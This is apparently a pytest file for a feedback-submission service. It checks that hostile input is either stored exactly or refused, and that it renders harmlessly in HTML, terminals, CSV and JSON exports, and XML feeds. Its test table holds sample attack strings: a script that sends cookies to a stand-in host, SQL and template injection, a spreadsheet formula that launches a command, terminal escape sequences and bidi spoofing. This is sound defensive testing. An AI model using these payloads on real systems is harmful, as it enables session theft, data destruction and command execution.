"""What people and programs may send: stored letter by letter or refused in words, and harmless wherever it is shown."""

from __future__ import annotations

import csv
import io
import json
import time
import unicodedata
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any, cast
from xml.etree import ElementTree as ET

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy import Engine

from kemuning_data.cli.feedback.handing_out import write_csv, write_json
from kemuning_data.cli.feedback.prose import for_terminal
from kemuning_data.errors import Refusal
from kemuning_data.feedback import desk, moderation, sender
from kemuning_data.feedback.defence.doubts import doubts_about, skeleton
from kemuning_data.feedback.permissions import Actor
from kemuning_data.feedback.publication import summarise
from kemuning_data.feedback.submission import submit
from kemuning_data.feedback.texts import LONGEST_TEXT, checked_text
from kemuning_data.i18n.problems import refusal_sentence
from kemuning_data.rules.feedback_vocabulary import Move, Role, TicketCategory
from kemuning_data.rules.personal_data import masked, personal_data_in
from kemuning_data.rules.plain_text import harmless
from kemuning_data.views.written import within_line, written
from tests.feedback.conftest import CALENDAR, KEY, MODERATOR, NOW, message

STORED = "stored"
BIDI = set("\u202a\u202b\u202d\u202e\u2066\u2067\u2068")
BIDI_ENDS = set("\u202c\u2069")

WHAT_HAPPENS: dict[str, tuple[str, str]] = {
    "10,000 characters": ("x" * LONGEST_TEXT, STORED),
    "10,001 characters": ("x" * (LONGEST_TEXT + 1), "feedback_text_too_long"),
    "a million characters": ("a" * 1_000_000, "feedback_text_too_long"),
    "10,000 emoji": ("🌼" * LONGEST_TEXT, STORED),
    "families of emoji": ("👨‍👩‍👧‍👦" * 50 + "🏳️‍🌈", STORED),
    "Arabic and Hebrew": ("السلام عليكم, שלום, halo", STORED),
    "a reversal that is left open": ("lihat \u202eexe.gnp", STORED),
    "closings that close nothing": ("\u2069\u2069\u202c lihat", STORED),
    "a script": ("<script>fetch('//x.example?'+document.cookie)</script>", STORED),
    "an image with a handler": ('<img src=x onerror="alert(1)">', STORED),
    "the end of what encloses it": ("</p></div></template><!-- ]]></style></textarea>", STORED),
    "entities": ("&lt;script&gt; &#x3c;b&#x3e; &amp;", STORED),
    "Markdown": ("[klik](javascript:alert(1)) ![x](http://x.example/a.png) $$\\href{x}{y}$$ :material/lock:", STORED),
    "SQL": ("'; DROP TABLE ticket; -- \" OR 1=1 /* %s :text ?", STORED),
    "a template": ("{{7*7}} ${7*7} {text} %(text)s #{7}", STORED),
    "a formula": ("=cmd|' /C calc'!A0", STORED),
    "a formula behind blanks": ("\t\r\n \u200b=HYPERLINK(\"http://x.example\")", STORED),
    "a full-width formula": ("＝1+1", STORED),
    "minus and at": ("-1+1\n@SUM(A1)\n+62", STORED),
    "NUL": ("sebelum\0sesudah", "feedback_text_unstorable"),
    "half a surrogate pair": ("\ud83d", "feedback_text_unstorable"),
    "halves in the wrong order": ("a\udf3c\ud83cb", "feedback_text_unstorable"),
    "a terminal's colours and title": ("\x1b[31m\x1b]0;judul\x07\x9b2J", STORED),
    "a terminal's link and clipboard": ("\x1b]8;;http://x.example\x1b\\\x1b]52;c;cm0gLXJm\x07", STORED),
    "backspaces and a carriage return": ("disetujui\b\b\b\b\rDITOLAK", STORED),
    "line ends of Word and of a PDF": ("baris\x0bbaris\x0chalaman\u2028akhir\u0085", STORED),
    "noncharacters": ("sam\ufffepai \uffff \ufdd0", STORED),
    "homoglyphs": ("Ρеmеrіntаh Каbuраtеn", STORED),
    "zero width between letters": ("k\u200bo\u200cr\u200du\u2060p\ufeff", STORED),
    "nothing but zero width": ("\u200b\u200c\u2060", "feedback_text_missing"),
    "nothing but blanks": (" \n\t\u3000\u00a0", "feedback_text_missing"),
    "nothing": ("", "feedback_text_missing"),
    "marks on marks": ("Z" + "\u0351" * 5_000, STORED),
    "private use and unassigned": ("\ue000\U000f0000 dan \u0378", STORED),
    "tags that nobody sees": ("halo \U000e0068\U000e0061", STORED),
    "digits for a search that goes back": ("1 " * 5_000, STORED),
    "names for a search that goes back": ("Bapak " * 1_666, STORED),
    "at signs for a search that goes back": ("a@" * 5_000, STORED),
    "links for a search that goes back": ("[url " * 2_000, STORED),
}  # fmt: skip
"""By name: what is sent, and whether it is stored or with which words it is refused."""


class Seen(HTMLParser):
    """What a browser would make of a piece of a page."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(name for name, _ in attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.tags.append(("comment", ()))


def plain(text: str) -> str:
    """The text without the signs that keep its direction to itself, and without its blanks."""
    return "".join(sign for sign in text if sign not in BIDI | BIDI_ENDS and not sign.isspace())


def is_closed(line: str) -> bool:
    """Whether a line leaves the direction of what follows alone, and takes none that is open before it."""
    opened: list[str] = []
    for sign in line:
        if sign in BIDI:
            opened.append("\u2069" if sign in "\u2066\u2067\u2068" else "\u202c")
        elif sign in BIDI_ENDS and (not opened or sign != opened.pop()):
            return False
    return not opened


def check_html(text: str) -> None:
    block = Seen(str(written(text)))
    assert set(block.tags) <= {("div", ("class",)), ("p", ("dir",))}
    assert plain(block.text) == plain(text)
    line = Seen(str(within_line(text)))
    assert line.tags == [("bdi", ("dir",))]
    assert plain(line.text) == plain(text)


def check_terminal(text: str) -> None:
    shown = for_terminal(text)
    assert not any(unicodedata.category(sign) == "Cc" for sign in shown if sign not in "\n\t")
    assert all(is_closed(line) for line in shown.split("\n"))


def check_cell(text: str) -> None:
    cell = harmless(text)
    assert cell in (text, f"'{text}")
    first = next(
        (sign for sign in cell if not (sign.isspace() or unicodedata.category(sign) in {"Cf", "Mn", "Cc"})), ""
    )
    assert first not in set("=+-@＝＋－＠")


def check_search(text: str) -> None:
    begun = time.process_time()
    personal_data_in(text)
    masked(text)
    doubts_about(text)
    skeleton(text)
    assert time.process_time() - begun < 2


@pytest.mark.parametrize("name", WHAT_HAPPENS)
def test_it_is_stored_letter_by_letter_or_refused_in_words(engine: Engine, name: str):
    text, what_happens = WHAT_HAPPENS[name]
    if what_happens != STORED:
        with pytest.raises(Refusal) as refused:
            submit(engine, message(text=text), now=NOW, site_key=KEY)
        assert refused.value.code == what_happens
        for lang in ("id", "en"):
            said = refusal_sentence(refused.value, lang)
            assert what_happens not in said
            assert len(said) < 300
        return
    code = submit(engine, message(text=text), now=NOW, site_key=KEY).code
    assert [said.text for said in sender.status(engine, code, site_key=KEY, calendar=CALENDAR).said] == [text]
    assert [said.text for said in desk.show(engine, 1, MODERATOR, CALENDAR).said] == [text]


@pytest.mark.parametrize("name", [name for name, (_, what) in WHAT_HAPPENS.items() if what == STORED])
def test_what_is_stored_is_harmless_wherever_it_is_shown(name: str):
    text, _ = WHAT_HAPPENS[name]
    check_html(text)
    check_terminal(text)
    check_cell(text)
    check_search(text)


@given(st.text(max_size=300))
@example("\r=1")
@example("\x85@a")
@example("\u2067\u202e\u2069\u202c")
def test_whatever_is_stored_is_harmless_wherever_it_is_shown(text: str):
    try:
        checked_text(text)
    except Refusal:
        return
    check_html(text)
    check_terminal(text)
    check_cell(text)
    check_search(text)


def test_files_for_others_hold_the_words_and_no_formula(engine: Engine):
    stored = [text for text, what in WHAT_HAPPENS.values() if what == STORED]
    for number, text in enumerate(stored):
        submit(engine, message(f"a-hostile-message-number-{number:03d}", text=text), now=NOW, site_key=KEY)
    handed = [desk.show(engine, number, MODERATOR, CALENDAR) for number in range(1, len(stored) + 1)]
    here = cast("Any", SimpleNamespace(calendar=CALENDAR, today=NOW.date()))
    as_csv, as_json = io.StringIO(newline=""), io.StringIO()
    write_csv(as_csv, handed, here)
    write_json(as_json, handed, here)
    header, *rows = csv.reader(io.StringIO(as_csv.getvalue().removeprefix("\ufeff"), newline=""))
    found = [row[header.index("text")] for row in rows]
    assert found == [harmless(text) for text in stored]
    for row in rows:
        for cell in row:
            check_cell(cell)
    assert [each["words"][0]["text"] for each in json.loads(as_json.getvalue())["messages"]] == stored


@given(st.text(max_size=200))
@example("a\x0bb")
@example("a\ufffeb")
def test_words_that_become_public_can_stand_in_a_feed_and_in_a_workbook(text: str):
    try:
        checked_text(text, is_published=True)
    except Refusal:
        return
    node = ET.Element("summary")
    node.text = text
    again = ET.fromstring(ET.tostring(node, encoding="utf-8"))
    assert (again.text or "").replace("\r", "\n") == text.replace("\r", "\n")


@pytest.mark.parametrize("text", ["a\x1b[2J", "a\x0bb", "a\ufffe", "a\x9b"])
def test_a_summary_with_control_signs_is_refused(engine: Engine, text: str):
    submit(engine, message(), now=NOW, site_key=KEY)
    moderation.move(engine, 1, Move.VERIFY, MODERATOR, now=NOW)
    moderation.classify(engine, 1, MODERATOR, category=TicketCategory.FACILITIES, now=NOW)
    moderation.reply(engine, 1, MODERATOR, "Sudah kami perbaiki.", now=NOW)
    with pytest.raises(Refusal, match="feedback_text_unstorable"):
        summarise(engine, 1, MODERATOR, text, now=NOW)
    with pytest.raises(Refusal, match="feedback_text_unstorable"):
        summarise(engine, 1, MODERATOR, "Loket tutup.", answer=text, now=NOW)


@pytest.mark.parametrize("name", ["Sari\0Wulandari", "Sari \ud83d", "S" * 10_000, "Sari\x1b[2J"])
def test_an_officials_name_that_cannot_stand_in_the_audit_is_refused(engine: Engine, name: str):
    submit(engine, message(), now=NOW, site_key=KEY)
    with pytest.raises(Refusal):
        moderation.move(engine, 1, Move.VERIFY, Actor(Role.MODERATOR, name), now=NOW)
    assert desk.show(engine, 1, MODERATOR, CALENDAR).line.state == "received"


@pytest.mark.parametrize("unit", ["unit\0", "\ud83d", "u" * 10_000, "=1+1", "\x1b[2J"])
def test_a_unit_that_is_no_code_is_refused(engine: Engine, unit: str):
    submit(engine, message(), now=NOW, site_key=KEY)
    moderation.move(engine, 1, Move.VERIFY, MODERATOR, now=NOW)
    with pytest.raises(Refusal):
        moderation.forward(engine, 1, MODERATOR, unit_code=unit, now=NOW)
